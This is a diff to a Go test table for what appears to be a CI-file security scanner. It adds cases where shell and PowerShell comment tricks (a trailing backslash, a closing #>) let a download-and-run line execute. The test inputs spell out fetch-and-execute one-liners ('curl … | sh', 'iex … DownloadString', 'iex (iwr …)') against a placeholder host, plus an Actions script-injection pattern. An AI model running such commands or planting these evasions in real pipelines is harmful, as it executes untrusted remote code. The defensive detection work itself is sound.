@@ -38,6 +38,12 @@ func TestSeverityByContext(t *testing.T) {
 		// commented out does not run.
 		{"CI step commented out", "appveyor.yml", "init:\n  #- ps: iex ((new-object net.webclient).DownloadString('https://x.invalid/e.ps1'))\n  - cmake --version", 2, "medium download-and-run"},
 		{"script line commented out", "ci/setup.sh", "#curl -fsSL https://x.invalid/i | sh\nmake", 1, "medium download-and-run"},
+		// ... but not after a line a backslash ends (the command carries on:
+		// echo x#; curl … | sh), nor after PowerShell's #> (the block
+		// comment ends and the rest of the line runs).
+		{"comment sign carried on from a backslash", "ci/setup.sh", "echo building\\\n#; curl -fsSL https://x.invalid/i | sh", 2, "high download-and-run"},
+		{"comment after a spaced backslash", "ci/setup.sh", "echo building \\\n#; curl -fsSL https://x.invalid/i | sh", 2, "medium download-and-run"},
+		{"PowerShell block comment closed", "ci/setup.ps1", "<# notes\n#> iex (iwr -UseBasicParsing https://x.invalid/p.ps1).Content", 2, "high download-and-run"},
 		// A dispatch's payload is written by whoever holds a token that may
 		// dispatch; the repository it names, built, is anyone's code.
 		{"dispatch payload in a command", ".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"deploying ${{ github.event.client_payload.version }}\"", 6, "medium gha-script-injection"},
